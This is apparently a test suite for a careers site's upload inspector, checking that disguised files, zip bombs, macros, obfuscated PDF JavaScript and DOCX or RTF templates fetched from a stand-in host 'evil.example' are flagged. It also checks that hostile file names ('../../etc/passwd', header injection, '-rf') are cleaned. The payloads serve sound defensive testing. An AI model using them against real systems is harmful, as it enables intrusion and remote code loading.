import { deflateSync } from 'node:zlib'
import type { FileKind } from '../../../src/services/careers/fileKinds.js'
import { isCalled, kindOf } from '../../../src/services/careers/fileKinds.js'
import { cleanFileName } from '../../../src/services/careers/fileName.js'
import { formatSize } from '../../../src/services/careers/fileSize.js'
import { contentOf } from '../../../src/services/careers/inspection/contentSource.js'
import { inspectFile } from '../../../src/services/careers/inspection/inspectFile.js'
import {
  aBoastfulBomb,
  aBomb,
  aDoc,
  aDocm,
  aDocx,
  aDocxWithMacros,
  aHeic,
  aJpg,
  aLockedDocx,
  anArchive,
  anOdt,
  anOverlappingDocx,
  anRtf,
  aPage,
  aPdf,
  aPng,
  aProgram,
  aSpreadsheet,
  aText,
} from '../../support/careers/someFiles.js'
import type { ZipPart } from '../../support/careers/zipFile.js'

/** A relationship of the settings, where word processors name the template of a document. */
const aLink = (kind: string, target: string, mode = 'Internal', name = 'settings'): ZipPart => ({
  name: `word/_rels/${name}.xml.rels`,
  content: `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
})

const afterMark = (mark: string): Buffer => Buffer.concat([Buffer.from(mark, 'hex'), aProgram()])

/** Inspects a file of the store. */
const inspect = (content: Buffer, kind: FileKind) => inspectFile(contentOf(content), kind)

test.each<[FileKind, Buffer]>([
  ['pdf', aPdf()],
  ['docx', aDocx()],
  ['odt', anOdt()],
  ['doc', aDoc()],
  ['rtf', anRtf()],
  ['txt', aText()],
  ['txt', Buffer.from('\uFEFFBonjour', 'utf16le')],
  ['txt', Buffer.from('\uFEFFExpérience 🩻\r\n', 'utf16le').swap16()],
  ['txt', Buffer.from('Expérience', 'latin1')],
  ['docx', aDocx(aLink('hyperlink', 'https://example.com', 'External'))],
  ['docx', aDocx(aLink('styles', 'styles.xml'))],
  ['docx', aDocx(aLink('image', 'media/image1.png'))],
  ['rtf', anRtf('{\\field{\\*\\fldinst INCLUDEPICTURE "photo.png"}}')],
  ['rtf', anRtf('{\\*\\template C:\\\\Users\\\\Ana\\\\Normal.dotm}')],
  ['jpg', aJpg()],
  ['png', aPng()],
  ['heic', aHeic()],
])('an honest %s is accepted without a warning', async (kind, content) => {
  expect(await inspect(content, kind)).toEqual({ ok: true, warnings: [] })
})

test.each<[string, FileKind, Buffer, string]>([
  ['a program called a PDF', 'pdf', aProgram(), 'mismatch'],
  ['a page called a PDF', 'pdf', aPage(), 'mismatch'],
  ['a page before a PDF', 'pdf', Buffer.concat([aPage(), aPdf()]), 'mismatch'],
  ['a PDF that is an archive as well', 'pdf', Buffer.concat([aPdf(), anArchive()]), 'mismatch'],
  [
    'a PDF with an archive and more behind it',
    'pdf',
    Buffer.concat([aPdf(), anArchive(), Buffer.from('\n%%EOF\n')]),
    'mismatch',
  ],
  [
    'a photo with an archive and more behind it',
    'jpg',
    Buffer.concat([aJpg(), anArchive(), Buffer.alloc(100)]),
    'mismatch',
  ],
  ['a program behind the mark of UTF-16', 'txt', afterMark('fffe'), 'mismatch'],
  ['a program behind the other mark of UTF-16', 'txt', afterMark('feff'), 'mismatch'],
  ['a program behind the mark of UTF-8', 'txt', afterMark('efbbbf'), 'mismatch'],
  ['a photo that is an archive as well', 'jpg', Buffer.concat([aJpg(), anArchive()]), 'mismatch'],
  ['a photo called a PDF', 'pdf', aJpg(), 'mismatch'],
  ['a PDF called a photo', 'jpg', aPdf(), 'mismatch'],
  ['an archive called a document', 'docx', anArchive(), 'mismatch'],
  ['a spreadsheet called a document', 'docx', aSpreadsheet(), 'mismatch'],
  ['a document with macros under the wrong name', 'docx', aDocm(), 'mismatch'],
  ['a document called a text', 'txt', aDocx(), 'mismatch'],
  ['bytes called a text', 'txt', Buffer.from([72, 0, 1, 2]), 'mismatch'],
  ['another old file called a document', 'doc', aDoc({ names: ['Root Entry'] }), 'mismatch'],
  ['a document with a password', 'docx', aLockedDocx(), 'locked'],
  ['an old document with a password', 'doc', aDoc({ isEncrypted: true }), 'locked'],
  [
    'a new document with a password',
    'doc',
    aDoc({ names: ['Root Entry', 'EncryptedPackage'] }),
    'locked',
  ],
  ['a zip bomb', 'docx', aBomb(), 'unreadable'],
  ['a zip bomb that gives its size', 'docx', aBoastfulBomb(), 'unreadable'],
  ['entries on top of each other', 'docx', anOverlappingDocx(), 'unreadable'],
  ['a document cut short', 'docx', aDocx().subarray(0, -30), 'unreadable'],
])('%s is refused', async (_what, kind, content, objection) => {
  expect(await inspect(content, kind)).toEqual({ ok: false, objection })
})

test.each<[FileKind, Buffer, string[]]>([
  ['docx', aDocxWithMacros(), ['macros']],
  ['docx', aDocx({ name: 'word/embeddings/a.bin', content: 'x' }), ['embedded']],
  ['doc', aDoc({ names: ['Root Entry', 'WordDocument', 'Macros'] }), ['macros']],
  ['pdf', aPdf('<< /S /JavaScript /JS (app.alert(1)) >>'), ['script']],
  ['pdf', aPdf('<< /S /J#61va#53cript /J#53 (app.alert(1)) >>'), ['script']],
  ['pdf', aPdf('<< /#4f#70#65#6e#41#63#74#69#6f#6e << /S /L#61unch >> >>'), ['script']],
  ['pdf', aPdf('<< /Type /EmbeddedFile >>'), ['embedded']],
  ['docx', aDocx(aLink('attachedTemplate', 'https://evil.example/a.dotm', 'External')), ['remote']],
  [
    'docx',
    aDocx(aLink('attachedT&#101;mplate', 'https://evil.example/a.dotm', '&#x45;xternal')),
    ['remote'],
  ],
  ['docx', aDocx(aLink('oleObject', 'file://evil.example/a', 'External', 'document')), ['remote']],
  // Word fetches a linked picture as it opens, and signs in to a server of files for it.
  ['docx', aDocx(aLink('image', 'file://evil.example/a.png', 'External', 'document')), ['remote']],
  [
    'docx',
    aDocx(
      { name: 'word/theme/theme7.xml', content: 'macros' },
      aLink('vbaProject', 'theme/theme7.xml', 'Internal', 'document'),
    ),
    ['macros'],
  ],
  ['rtf', anRtf('{\\*\\template https://evil.example/a.dotm}'), ['remote']],
  ['rtf', anRtf('{\\*\\template \\\\\\\\evil.example\\\\a.dotm}'), ['remote']],
  [
    'rtf',
    anRtf('{\\field{\\*\\fldinst INCLUDEPICTURE "https://evil.example/a.png" \\\\d}}'),
    ['remote'],
  ],
  ['rtf', anRtf("{\\*\\template \\'68ttps://evil.example/a.dotm}"), ['remote']],
  ['pdf', aPdf('trailer << /Encrypt 5 0 R >>'), ['password']],
  ['rtf', anRtf('{\\object\\objemb}'), ['embedded']],
])(
  'a %s with active or embedded content is accepted with a warning',
  async (kind, content, warnings) => {
    expect(await inspect(content, kind)).toEqual({ ok: true, warnings })
  },
)

/** A photo that any program for archives opens, with the end signature in the archive's comment. */
const aPhotoWithCommentedArchive = (): Buffer => {
  const archive = anArchive()
  const comment = Buffer.from('PK\u0005\u0006, which begins the record at the end of an archive')
  archive.writeUInt16LE(comment.length, archive.length - 2)
  return Buffer.concat([aJpg(), archive, comment])
}

const endRecordSize = 22

/** Changes bytes of the record at the end of an archive. */
const withEndRecord = (content: Buffer, change: (endRecord: Buffer) => void): Buffer => {
  const copy = Buffer.from(content)
  change(copy.subarray(-endRecordSize))
  return copy
}

/** Gives the macros another name in the field where Info-ZIP writes names in Unicode. */
const aDocxWithRenamedMacros = (): Buffer =>
  aDocx({ name: 'word/vbaProject.bin', content: 'macros', unicodeName: 'word/theme.xml' })

const aStronglyEncryptedDocx = (): Buffer => {
  const content = aLockedDocx()
  for (let at = content.indexOf('PK\u0001\u0002'); at >= 0; ) {
    content.writeUInt16LE(0x41, at + 8)
    at = content.indexOf('PK\u0001\u0002', at + 1)
  }
  return content
}

describe('an archive made to mislead', () => {
  test.each<[string, FileKind, Buffer, string]>([
    [
      'behind a photo, with its own end in its comment',
      'jpg',
      aPhotoWithCommentedArchive(),
      'mismatch',
    ],
    [
      'that counts fewer entries than its directory has',
      'docx',
      withEndRecord(aDocxWithMacros(), (record) => record.writeUInt16LE(1, 10)),
      'unreadable',
    ],
    [
      'that counts more entries than its directory has',
      'docx',
      withEndRecord(aDocx(), (record) => record.writeUInt16LE(40, 10)),
      'unreadable',
    ],
    [
      'that leaves counts and sizes to zip64',
      'docx',
      withEndRecord(aDocx(), (record) => record.fill(0xff, 8, 20)),
      'unreadable',
    ],
    [
      'whose directory is said to be larger than the file',
      'docx',
      withEndRecord(aDocx(), (record) => record.writeUInt32LE(1_000_000, 12)),
      'unreadable',
    ],
    [
      'whose directory is said to be elsewhere',
      'docx',
      withEndRecord(aDocx(), (record) => record.writeUInt32LE(0, 16)),
      'unreadable',
    ],
    ['with strong encryption', 'docx', aStronglyEncryptedDocx(), 'locked'],
  ])('%s is refused', async (_what, kind, content, objection) => {
    expect(await inspect(content, kind)).toEqual({ ok: false, objection })
  })

  test('cannot hide its macros behind a second name', async () => {
    expect(await inspect(aDocxWithRenamedMacros(), 'docx')).toEqual({
      ok: true,
      warnings: ['macros'],
    })
  })
})

/** As programs write most objects of a PDF: packed, several in a stream. */
const aPackedPdf = (
  objects: string,
  dictionary = '/Type /ObjStm /Filter /FlateDecode',
  word = 'stream\n',
): Buffer => {
  const packed = deflateSync(Buffer.from(objects))
  const begin = `5 0 obj\n<< ${dictionary} /N 1 /First 4 /Length ${packed.length} >>\n${word}`
  const file = aPdf('HERE')
  const at = file.indexOf('HERE')
  return Buffer.concat([
    file.subarray(0, at),
    Buffer.from(begin),
    packed,
    Buffer.from('\nendstream\nendobj\n'),
    file.subarray(at + 4),
  ])
}

const aScript = '6 0 << /S /JavaScript /JS (app.alert(1)) >>'
/** Begins with numbers as well, and shows words. */
const aDrawing = '1 0 0 1 72 720 cm BT (a name: /JS ) Tj ET'

test.each<[string, Buffer, string[]]>([
  ['of an honest one says nothing', aPackedPdf('6 0 << /Type /Font >>'), []],
  ['shows its script', aPackedPdf(aScript), ['script']],
  [
    'shows its script whose names are spelt in numbers',
    aPackedPdf('6 0 << /S /J#53 (app.alert(1)) >>', '/Type /Obj#53tm /Filter [/FlateDecode]'),
    ['script'],
  ],
  [
    'shows its script behind a description of thousands of characters',
    aPackedPdf(aScript, `/Type /ObjStm /Filter /FlateDecode /Note (${'a'.repeat(20_000)})`),
    ['script'],
  ],
  [
    'shows its script though a note in its description reads like a beginning',
    aPackedPdf(aScript, '/Type /ObjStm % stream\n/Filter /FlateDecode'),
    ['script'],
  ],
  [
    'shows its script though a note in its description reads like an end',
    aPackedPdf(aScript, '/Type /ObjStm % endobj\n/Filter /FlateDecode'),
    ['script'],
  ],
  [
    'shows its script though its kind is not told, which readers do not ask for',
    aPackedPdf(aScript, '/Filter /FlateDecode'),
    ['script'],
  ],
  [
    'shows its script behind a beginning with a space at its end',
    aPackedPdf(aScript, '/Type /ObjStm /Filter /FlateDecode', 'stream \n'),
    ['script'],
  ],
  [
    'shows its script behind a beginning that ends like lines of old computers',
    aPackedPdf(aScript, '/Type /ObjStm /Filter /FlateDecode', 'stream\r'),
    ['script'],
  ],
  ['says nothing where a page is drawn', aPackedPdf(aDrawing, '/Filter /FlateDecode'), []],
  [
    'is suspected when it is packed in a way that no program does',
    aPackedPdf('6 0', '/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode] /Predictor 12'),
    ['script'],
  ],
  ['is suspected when it unpacks to far too much', aPackedPdf(' '.repeat(5_000_000)), ['script']],
])('what is packed in a PDF %s', async (_what, content, warnings) => {
  expect(await inspect(content, 'pdf')).toEqual({ ok: true, warnings })
})

test('a PDF of nothing but beginnings of streams is read in a moment', async () => {
  const began = performance.now()
  await inspect(aPdf('/ObjStm stream\n'.repeat(60_000)), 'pdf')
  await inspect(aPdf('stream\n'.repeat(300_000)), 'pdf')
  expect(performance.now() - began).toBeLessThan(3000)
})

test('a PDF of more packed beginnings than anybody’s file has is suspected, and holds nobody up', async () => {
  const packed = Buffer.concat([Buffer.from('\nstream\n'), deflateSync('q '.repeat(200_000))])
  const content = Buffer.concat([aPdf(), ...Array<Buffer>(10_000).fill(packed)])
  let longest = 0
  let before = performance.now()
  const beat = setInterval(() => {
    longest = Math.max(longest, performance.now() - before)
    before = performance.now()
  }, 5)
  expect(await inspect(content, 'pdf')).toEqual({ ok: true, warnings: ['script'] })
  clearInterval(beat)
  expect(longest).toBeLessThan(500)
})

test.each([
  ['of beginnings of tags', '<Relationship '],
  ['of prefixes', '<a:Relationship:'],
  ['of attributes', '<Relationship a="'],
])(
  'a list of parts %s without an end is read in a moment, and taken for hiding something',
  async (_what, piece) => {
    const endless = piece.repeat(60_000)
    const began = performance.now()
    const found = await inspect(
      aDocx({ name: 'word/_rels/endless.rels', content: endless }),
      'docx',
    )
    expect(performance.now() - began).toBeLessThan(1000)
    expect(found).toEqual({ ok: true, warnings: ['remote'] })
  },
)

test('a template from elsewhere is not taken for a link because its address ends like one', async () => {
  const template = `<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate"
    Target="https://evil.example/hyperlink" TargetMode="External"/></Relationships>`
  expect(
    await inspect(aDocx({ name: 'word/_rels/settings.xml.rels', content: template }), 'docx'),
  ).toEqual({ ok: true, warnings: ['remote'] })
})

const template = 'Type="http://x/attachedTemplate" TargetMode="External"'

/** The list says how it was packed twice: where it stands, and in the directory. */
const aDocxThatLiesAboutPacking = (): Buffer => {
  const list = aLink('attachedTemplate', 'https://evil.example/a.dotm', 'External')
  const content = aDocx(list)
  const stands = content.indexOf(list.name) - 30
  content.writeUInt16LE(0, stands + 8)
  return content
}

test.each<[string, Buffer, string[]]>([
  [
    'though its address holds the type of a link',
    aDocx({
      name: 'word/_rels/a.rels',
      content: `<Relationship ${template} Target="https://evil.example/a.dotm?Type='/hyperlink'"/>`,
    }),
    ['remote'],
  ],
  [
    'though another value holds the type of a link, its marks written as numbers',
    aDocx({
      name: 'word/_rels/a.rels',
      content: `<Relationship Id="r&#34; Type=&#34;x/hyperlink" ${template} Target="https://evil.example/a.dotm"/>`,
    }),
    ['remote'],
  ],
  [
    'though another attribute, whose name ends alike, says link',
    aDocx({
      name: 'word/_rels/a.rels',
      content: `<Relationship x-Type="a/hyperlink" ${template} Target="https://evil.example/a.dotm"/>`,
    }),
    ['remote'],
  ],
  [
    'in a tag with a prefix of many letters',
    aDocx({
      name: 'word/_rels/a.rels',
      content: `<${'très-'.repeat(20)}p:Relationship ${template} Target="https://evil.example/a.dotm"/>`,
    }),
    ['remote'],
  ],
  [
    'in wide letters without their mark',
    aDocx({
      name: 'word/_rels/a.rels',
      content: Buffer.from(
        `<Relationship ${template} Target="https://evil.example/a.dotm"/>`,
        'utf16le',
      ),
    }),
    ['remote'],
  ],
  [
    'or suspected in a list that says two ways how it is packed',
    aDocxThatLiesAboutPacking(),
    ['macros'],
  ],
])('a template from elsewhere is found %s', async (_where, content, warnings) => {
  expect(await inspect(content, 'docx')).toEqual({ ok: true, warnings })
})

test('a name made to be read for minutes is cleaned in a moment, with its ending', () => {
  const began = performance.now()
  expect(cleanFileName(`a${'. '.repeat(100_000)}b.pdf`)).toMatch(/\.pdf$/)
  expect(performance.now() - began).toBeLessThan(100)
})

test('a directory with too many entries is not read', async () => {
  const many = Array.from({ length: 2500 }, (_, place) => ({ name: `word/${place}`, content: '' }))
  expect(await inspect(aDocx(...many), 'docx')).toEqual({ ok: false, objection: 'unreadable' })
})

test.each([
  ['CV.pdf', 'CV.pdf'],
  ['../../etc/passwd', 'passwd'],
  ['C:\\Users\\Ana\\CV.docx', 'CV.docx'],
  ['cv\r\nSet-Cookie: a=b.pdf', 'cvSet-Cookie a=b.pdf'],
  ['\u202Efdp.exe', 'fdp.exe'],
  ['CV\u0000.pdf', 'CV.pdf'],
  ['.htaccess', 'htaccess'],
  ['-rf.txt', 'rf.txt'],
  ['履歴書 Élodie 🩻.pdf', '履歴書 Élodie 🩻.pdf'],
  ['  CV   final .pdf', 'CV final .pdf'],
  // Windows makes no folder and no file whose name ends so.
  ['Pierre Roy Jr.', 'Pierre Roy Jr'],
  ['CV.pdf. .', 'CV.pdf'],
  ['...', 'fichier'],
  ['<img src=x onerror=1>.png', 'img src=x onerror=1.png'],
  ['', 'fichier'],
  ['///', 'fichier'],
  ['\uD800.pdf', '�.pdf'],
])('the name %j is stored as %j', (given, stored) => {
  expect(cleanFileName(given)).toBe(stored)
})

test.each(['a'.repeat(255), 'é'.repeat(255), '👩🏽‍⚕️'.repeat(100)])(
  'a very long name keeps its extension',
  (stem) => {
    const name = cleanFileName(`${stem}.pdf`)
    expect(name).toMatch(/\.pdf$/)
    expect(Buffer.byteLength(name)).toBeLessThanOrEqual(150)
    expect(name.isWellFormed()).toBe(true)
  },
)

test.each([
  ['cv.pdf', 'pdf'],
  ['cv.PDF', 'pdf'],
  ['cv.exe.pdf', 'pdf'],
  ['photo.jpeg', 'jpg'],
  ['photo.HEIF', 'heic'],
  ['cv.pdf.exe', undefined],
  ['cv', undefined],
  ['cv.pdf.', undefined],
  ['constructor', undefined],
])('the last extension of %s decides its kind', (name, kind) => {
  expect(kindOf(name)).toBe(kind)
})

test('a browser may give no media type, but not a wrong one', () => {
  expect(isCalled('docx', '')).toBe(true)
  expect(isCalled('docx', 'application/octet-stream')).toBe(true)
  expect(isCalled('txt', 'text/plain; charset=utf-8')).toBe(true)
  expect(isCalled('pdf', 'text/html')).toBe(false)
})

test('sizes are written as in French and in English', () => {
  expect(formatSize(10 * 1_048_576, 'fr')).toBe('10\u00A0Mo')
  expect(formatSize(1_887_437, 'fr')).toBe('1,8\u00A0Mo')
  expect(formatSize(84_000, 'en')).toBe('82\u00A0KB')
  expect(formatSize(12, 'en')).toBe('12\u00A0bytes')
})
